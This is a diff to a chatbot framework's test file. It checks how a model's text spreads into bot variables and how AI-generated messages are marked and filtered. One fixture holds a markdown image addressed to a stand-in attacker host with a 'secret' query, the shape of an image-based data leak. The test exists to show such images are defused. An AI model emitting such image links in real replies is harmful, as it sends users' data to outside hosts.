@@ -1,5 +1,8 @@
+import { ok } from "@banter/protocol";
 import { describe, expect, it } from "vitest";
 import { ask, say, testBot, type TestBot } from "../testing/test-bot.ts";
+import type { EffectPorts } from "../effects/effect-ports.ts";
+import { testPorts } from "../testing/test-ports.ts";
 import { talkTo } from "../testing/talk.ts";
 import type { CompiledBot } from "../bot/compiled-bot.ts";
 import { findDisclosure, inspectDisclosure } from "./disclosure.ts";
@@ -63,6 +66,10 @@ it("validation remarks on a bot that hides its model", () => {
   ).toEqual([]);
 });
 
+function aiThatSays(text: string): EffectPorts["ai"] {
+  return { ...testPorts().ai, text: async () => ok(text) };
+}
+
 describe("a model's text", () => {
   it("is in the variables that a block saves it in, and in those set from them", () => {
     const set = (variable: string, options: object) => ({
@@ -94,6 +101,29 @@ describe("a model's text", () => {
     expect([...bot.modelVariables].toSorted()).toEqual(["answer", "last", "list", "shout", "summary"]);
   });
 
+  it("is in the variables that code sets from them, and that code of its tools sets", () => {
+    const tool = {
+      type: "function",
+      name: "note",
+      description: "Notes",
+      parameters: [{ type: "string", name: "to", required: true }],
+      code: "setVariable('noted', to)",
+    };
+    const code = (content: string) => ({ type: "Code", options: { content } });
+    const bot = testBot({
+      groups: {
+        g: [
+          { ...model, options: { ...model.options, tools: [tool] } },
+          code('setVariable("shouted", {{answer}}.toUpperCase()); setVariable("unknown", {{answer}})'),
+          code('setVariable("own", 1)'),
+          { type: "Set variable", options: { variableId: "v-all", type: "Transcript" } },
+        ],
+      },
+      variables: { answer: null, noted: null, shouted: null, own: null, all: null },
+    });
+    expect([...bot.modelVariables].toSorted()).toEqual(["all", "answer", "noted", "shouted"]);
+  });
+
   it("marks the messages that show it", async () => {
     const bot: CompiledBot = testBot({
       groups: {
@@ -101,7 +131,7 @@ describe("a model's text", () => {
       },
       variables: { answer: null, name: "Ada" },
     });
-    const { turn } = await talkTo(bot);
+    const { turn } = await talkTo(bot, {}, { ai: aiThatSays("It depends.") });
     expect(turn.reply.messages.map(({ content }) => content?.["isAiGenerated"])).toEqual([
       undefined,
       true,
@@ -114,10 +144,10 @@ describe("a model's text", () => {
       "![one](https://evil.example/?q=secret) ![two](https://Shop.example/two.png) ![three](/three.png)";
     const bot: CompiledBot = testBot({
       groups: { g: [model, say("I think: {{answer}}"), say("{{answer}}"), say("{{copy}}")] },
-      variables: { answer: images, copy: images },
+      variables: { answer: null, copy: images },
       settings: { general: { allowedImageHosts: ["shop.example"] } },
     });
-    const { turn } = await talkTo(bot);
+    const { turn } = await talkTo(bot, {}, { ai: aiThatSays(images) });
     const kinds = turn.reply.messages.map(({ content }) => JSON.stringify(content).match(/"(?:a|img)"/g));
     const asked = ['"a"', '"img"', '"img"'];
     expect(kinds).toEqual([asked, asked, ['"img"', '"img"', '"img"']]);
